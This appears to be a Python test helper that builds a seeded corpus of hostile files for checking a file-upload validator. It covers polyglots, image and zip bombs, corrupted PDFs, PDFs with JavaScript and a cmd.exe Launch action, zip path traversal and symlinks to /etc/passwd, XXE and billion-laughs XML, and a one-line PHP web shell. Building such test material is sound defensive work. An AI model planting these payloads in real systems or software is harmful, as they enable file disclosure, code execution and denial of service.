"""Hostile files, made anew from a number: the same number gives the same file. Nothing in them does harm."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache

import pikepdf
from PIL import Image

REFUSED, HARMLESS, EITHER = "refused", "harmless", "either"


@dataclass(frozen=True)
class Hostile:
    """A file, and what must become of it. either: damage may by chance leave a file that can be read."""

    family: str
    name: str
    data: bytes
    must: str = REFUSED


@lru_cache
def good_pdf(pages: int = 2) -> bytes:
    """A plain PDF."""
    pdf = pikepdf.new()
    for number in range(pages):
        pdf.add_blank_page(page_size=(300, 400))
        pdf.pages[number].Contents = pdf.make_stream(b"0 0 1 rg 20 20 100 %d re f" % (50 + number % 200))
    return saved(pdf)


def saved(pdf: pikepdf.Pdf, **more: object) -> bytes:
    target = io.BytesIO()
    pdf.save(target, deterministic_id="encryption" not in more, **more)
    return target.getvalue()


@lru_cache
def good_picture(kind: str, **_: object) -> bytes:
    """A picture with colours in it."""
    picture = Image.new("RGB", (120, 90), "white")
    picture.paste((200, 30, 30), (10, 10, 60, 60))
    target = io.BytesIO()
    picture.save(target, format=kind)
    return target.getvalue()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return target.getvalue()


SIGNS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "ofd": "OFD.xml"}


def office(kind: str, more: dict[str, bytes] | None = None, body: bytes = b"<document/>") -> bytes:
    """The least that is a document of a kind."""
    return zipped({"[Content_Types].xml": b"<Types/>", SIGNS[kind]: body, **(more or {})})


def wrong_type(r: random.Random) -> Hostile:
    kinds = {"pdf": good_pdf(), "png": good_picture("PNG"), "jpg": good_picture("JPEG"), "docx": office("docx"),
             "csv": b"a,b\n1,2\n", "ofd": office("ofd")}  # fmt: skip
    said, really = r.sample(sorted(kinds), 2)
    if (said, really) == ("csv", "csv"):
        said = "pdf"
    return Hostile("wrong type", f"材料{r.randrange(99)}.{said}", kinds[really])


def program(r: random.Random) -> Hostile:
    head = r.choice([b"MZ\x90\0\x03\0\0\0", b"\x7fELF\x02\x01\x01\0", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe\0\0\0\x34",
                     b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\0", b"{\\rtf1", b"MIME-Version: 1.0\n",  # noqa: E501
                     b"GIF89a\x01\0\x01\0", b"L\0\0\0\x01\x14\x02\0"])  # fmt: skip
    return Hostile(
        "program", r.choice(["a.pdf", "a.csv", "a.jpg", "a.docx"]), head + r.randbytes(r.randrange(50, 4000))
    )


def web_page(r: random.Random) -> Hostile:
    text = r.choice(["<html><script>alert(1)</script>", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                     "<!DOCTYPE html><body onload=x()>", "\n\n  <script>1</script>", "<?xml version='1.0'?><a/>",
                     "<?php system($_GET[0]); ?>"])  # fmt: skip
    coded = r.choice([text.encode(), text.encode("utf-16"), b"\xef\xbb\xbf" + text.encode()])
    return Hostile(
        "web page", r.choice(["a.csv", "a.txt", "a.html", "a.svg", "a.pdf"]), coded + b" " * r.randrange(0, 64, 2)
    )


def with_comment(data: bytes, comment: bytes) -> bytes:
    """A JPEG with a comment."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def polyglot(r: random.Random) -> Hostile:
    archive = zipped({f"x{r.randrange(999)}.class": r.randbytes(200)})
    script = b"<html><script>alert(%d)</script></html>" % r.randrange(999)
    choices: list[tuple[str, bytes]] = [
        ("a.pdf", good_pdf() + archive), ("a.jpg", good_picture("JPEG") + archive), ("a.png", good_picture("PNG") + archive),  # noqa: E501
        ("a.jpg", with_comment(good_picture("JPEG"), script)), ("a.gif", b"GIF89a" + r.randbytes(50) + archive),
        ("a.pdf", good_pdf().replace(b"%PDF-", b"%PDF-1.4\n" + script + b"\n%PDF-", 1)), ("a.csv", b"a,b\n1,2\n" + archive),  # noqa: E501
        ("a.docx", good_pdf() + office("docx")), ("a.zip", archive + good_pdf()), ("a.jpg", good_picture("JPEG") + good_pdf()),  # noqa: E501
        ("a.webp", good_picture("WEBP") + archive), ("a.png", good_picture("PNG") + b"Rar!\x1a\x07\0" + r.randbytes(90)),  # noqa: E501
        ("a.tif", good_picture("TIFF") + archive), ("a.jpg", with_comment(good_picture("JPEG"), b"%PDF-1.4\n1 0 obj")),
        ("a.docx", office("docx") + script), ("a.pdf", good_pdf() + b"\n" + r.randbytes(5000).replace(b"%%EOF", b"")),
        ("a.png", good_picture("PNG") + b"MZ\x90\0" + b"This program cannot be run in DOS mode" + r.randbytes(90)),
    ]  # fmt: skip
    name, data = r.choice(choices)
    return Hostile("polyglot", name, data)


def with_size(width: int, height: int) -> bytes:
    """A PNG that announces a size, with the pixels of a much smaller one."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 5000)), (b"IEND", b"")]
    packed = b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in chunks)
    return b"\x89PNG\r\n\x1a\n" + packed


@lru_cache
def real_image_bomb(side: int) -> bytes:
    """All its pixels are there, packed a thousandfold."""
    target = io.BytesIO()
    Image.new("1", (side, side)).save(target, format="PNG", optimize=True)
    return target.getvalue()


def image_bomb(r: random.Random) -> Hostile:
    if r.random() < 0.1:
        return Hostile("image bomb", "a.png", real_image_bomb(r.choice([8_000, 12_000])))
    side = r.randrange(9_000, 2**31 - 1)
    data = with_size(side, r.randrange(9_000, 60_000))
    if r.random() < 0.3:
        jpeg = bytearray(good_picture("JPEG"))
        at = jpeg.index(b"\xff\xc0")
        jpeg[at + 5 : at + 9] = struct.pack(">HH", r.randrange(60_000, 65_535), r.randrange(60_000, 65_535))
        return Hostile("image bomb", "a.jpg", bytes(jpeg))
    return Hostile("image bomb", "a.png", data)


def animation(r: random.Random) -> Hostile:
    frames = [Image.new("RGB", (20, 20), (r.randrange(255), 0, 90 * n)) for n in range(3)]
    kind = r.choice(["PNG", "WEBP"])
    target = io.BytesIO()
    frames[0].save(target, format=kind, save_all=True, append_images=frames[1:], duration=50)
    return Hostile("animation", f"a.{kind.lower()}", target.getvalue())


def broken_picture(r: random.Random) -> Hostile:
    kind, ending = r.choice([("PNG", "png"), ("JPEG", "jpg"), ("WEBP", "webp"), ("TIFF", "tif")])
    data = bytearray(good_picture(kind))
    if r.random() < 0.5:
        return Hostile("broken picture", f"a.{ending}", bytes(data[: r.randrange(12, len(data) * 3 // 4)]), EITHER)
    for _ in range(r.randrange(1, 40)):
        data[r.randrange(8, len(data))] = r.randrange(256)
    return Hostile("broken picture", f"a.{ending}", bytes(data), EITHER)


def broken_pdf(r: random.Random) -> Hostile:
    data = bytearray(good_pdf())
    way = r.randrange(4)
    if way == 0:
        return Hostile("broken PDF", "a.pdf", bytes(data[: r.randrange(8, len(data) - 8)]))
    if way == 1:
        return Hostile("broken PDF", "a.pdf", b"%PDF-1.7\n" + r.randbytes(r.randrange(1, 3000)))
    for _ in range(r.randrange(1, 60)):
        data[r.randrange(8, len(data))] = r.randrange(256)
    if way == 2:
        at = r.randrange(8, len(data))
        del data[at : at + r.randrange(1, 200)]
    return Hostile("broken PDF", "a.pdf", bytes(data), EITHER)


@lru_cache
def deep_pdf(depth: int) -> bytes:
    return good_pdf().replace(b"/Resources", b"/A " + b"[" * depth + b"]" * depth + b" /Resources", 1)


def acting_pdf(r: random.Random) -> Hostile:
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    way = r.choice(["js", "open", "names", "aa", "launch", "file", "xfa", "submit", "encoded", "annotation", "media"])
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert({r.randrange(9999)})"))
    must = HARMLESS
    if way in ("js", "open", "encoded"):
        pdf.Root.OpenAction = script
    elif way == "names":
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))
    elif way == "aa":
        pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))
    elif way == "launch":
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        must = REFUSED
    elif way == "file":
        pdf.attachments["x.exe"] = b"MZ" + r.randbytes(100)
    elif way == "xfa":
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=[])
        must = REFUSED
    else:
        kinds = {"submit": "/SubmitForm", "annotation": "/JavaScript", "media": "/Rendition"}
        action = pikepdf.Dictionary(
            S=pikepdf.Name(kinds[way]), JS=pikepdf.String("1"), F=pikepdf.String("http://x.invalid")
        )
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([note]))
    packed = (
        pikepdf.ObjectStreamMode.generate if r.random() < 0.5 and way != "encoded" else pikepdf.ObjectStreamMode.disable
    )
    data = saved(pdf, object_stream_mode=packed)
    if way == "encoded":
        data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    return Hostile("acting PDF", "a.pdf", data, must)


@lru_cache
def locked_pdf() -> bytes:
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    return saved(pdf, encryption=pikepdf.Encryption(owner="a", user="b"))


@lru_cache
def object_bomb() -> bytes:
    """A stream of objects that unpacks to far more than a process may hold."""
    pump = zlib.compressobj(9)
    packed = b"".join(pump.compress(b" " * (1 << 20)) for _ in range(1200)) + pump.flush()
    inner = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed
    rows = b"".join(
        struct.pack(">BIB", *row) for row in [(0, 0, 0), (2, 5, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (1, 9, 0)]
    )
    start = b"%PDF-1.5\n" + inner + b"\nendstream endobj\n"
    table = b"6 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows) + rows
    return start + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(start)


def heavy_pdf(r: random.Random) -> Hostile:
    way = r.randrange(4)
    if way == 0:
        return Hostile("heavy PDF", "a.pdf", locked_pdf())
    if way == 1 and r.random() < 0.1:
        return Hostile("heavy PDF", "a.pdf", object_bomb())
    if way == 2:
        return Hostile("heavy PDF", "a.pdf", deep_pdf(r.choice([600, 5_000, 100_000])), EITHER)
    loop = good_pdf().replace(b"/Count 2", b"/Count %d" % r.randrange(10**6, 10**9), 1)
    return Hostile("heavy PDF", "a.pdf", loop, EITHER)


@lru_cache
def zeros(mebibytes: int) -> bytes:
    return zipped({"0.txt": b"\0" * (mebibytes << 20)})


def overlapping(r: random.Random) -> bytes:
    """Many members that share the same bytes."""
    data = bytearray(zipped({f"{n:04}.txt": r.randbytes(20) for n in range(20)}))
    at = data.index(b"PK\x01\x02")
    while (at := data.find(b"PK\x01\x02", at + 4)) >= 0:
        data[at + 42 : at + 46] = b"\0\0\0\0"
    return bytes(data)


@lru_cache
def many_members() -> bytes:
    return zipped({f"{n}.txt": b"" for n in range(10_500)}, zipfile.ZIP_STORED)


def bad_archive(r: random.Random) -> Hostile:
    way = r.choice(
        ["nested", "bomb", "path", "lock", "twice", "overlap", "link", "many", "broken", "program", "forged"]
    )
    inner = zipped({"a.txt": r.randbytes(50)})
    name = f"{r.randrange(10**6)}"
    if way in ("nested", "program"):
        data = zipped(
            {name: inner if way == "nested" else b"\x7fELF\x02\x01\x01\0" + r.randbytes(40)}, zipfile.ZIP_STORED
        )
        if r.random() < 0.5:
            data = zipped({name: inner if way == "nested" else b"MZ\x90\0\x03\0" + r.randbytes(40), "b.txt": b"x"})
    elif way == "bomb":
        data = zeros(r.choice([20, 40]))
    elif way == "path":
        data = zipped({r.choice(["../../x", "/etc/x", "a/../../x", "C:/x", "..\\..\\x", "a\x01b"]) + name: b"x"})
    elif way == "twice":
        data = zipped({f"a{name}.txt": b"x", f"A{name}.txt": b"y"})
    elif way == "overlap":
        data = overlapping(r)
    elif way == "many":
        data = many_members()
    elif way == "link":
        target, one = io.BytesIO(), zipfile.ZipInfo(name)
        one.external_attr = 0o120777 << 16
        with zipfile.ZipFile(target, "w") as archive:
            archive.writestr(one, "/etc/passwd")
        data = target.getvalue()
    else:
        changed = bytearray(inner)
        at = changed.index(b"PK\x01\x02")
        if way == "lock":
            changed[6] |= 1
            changed[at + 8] |= 1
        elif way == "forged":
            changed[at + 24 : at + 28] = struct.pack("<I", r.randrange(2**31, 2**32 - 2))
        else:
            changed = changed[: r.randrange(4, len(changed) - 22)]
        data = bytes(changed)
    return Hostile("archive", "a.zip", data)


def bad_office(r: random.Random) -> Hostile:
    kind = r.choice(["docx", "xlsx", "ofd"])
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '&a;&a;'>" for n in range(9)) + "]><l>&a8;</l>"
    text = " " * r.randrange(0, 3_000_000 if r.random() < 0.02 else 3000) + r.choice([entity, laughs])
    way = r.choice(["xml", "xml", "utf16", "macro", "template", "nested"])
    if way in ("xml", "utf16"):
        return Hostile(
            "office",
            f"a.{kind}",
            office(kind, {f"x{r.randrange(99)}.xml": text.encode("utf-16" if way == "utf16" else "utf-8")}),
        )
    if way == "macro":
        return Hostile("office", f"a.{kind}", office(kind, {"word/vbaProject.bin": r.randbytes(300)}))
    if way == "template":
        relation = (
            b'<Relationship Id="1" Type="x/attachedTemplate" Target="http://x.invalid/%d" TargetMode="External"/>'
        )
        return Hostile(
            "office", f"a.{kind}", office(kind, {"word/_rels/settings.xml.rels": relation % r.randrange(999)})
        )
    return Hostile("office", f"a.{kind}", office(kind, {"media/x.bin": zipped({"a": r.randbytes(30)})}))


def bad_compound(r: random.Random) -> Hostile:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 20 + b"\xfe\xff" + b"\0" * 482
    names = r.choice([["Root Entry"], ["Root Entry", "WordDocument", "Macros"], ["Root Entry", "EncryptedPackage"], []])
    for name in names:
        coded = (name + "\0").encode("utf-16-le")
        data += coded.ljust(64, b"\0") + struct.pack("<HBB", len(coded), 2, 1) + b"\0" * 60
    return Hostile("compound", r.choice(["a.doc", "a.xls"]), data + r.randbytes(r.randrange(0, 3000)))


def moving_photo(r: random.Random) -> Hostile:
    video = b"\0\0\0\x18ftypmp42" + r.randbytes(r.randrange(200, 3000)).replace(b"PK", b"pk")
    return Hostile("moving photo", "a.jpg", good_picture("JPEG") + video, HARMLESS)


FAMILIES: tuple[Callable[[random.Random], Hostile], ...] = (
    wrong_type, program, web_page, polyglot, polyglot, image_bomb, animation, broken_picture, broken_picture, broken_pdf,  # noqa: E501
    broken_pdf, acting_pdf, acting_pdf, heavy_pdf, bad_archive, bad_archive, bad_office, bad_compound, moving_photo,
)  # fmt: skip


def hostile(number: int) -> Hostile:
    """The file of a number; the families take turns."""
    return FAMILIES[number % len(FAMILIES)](random.Random(number))
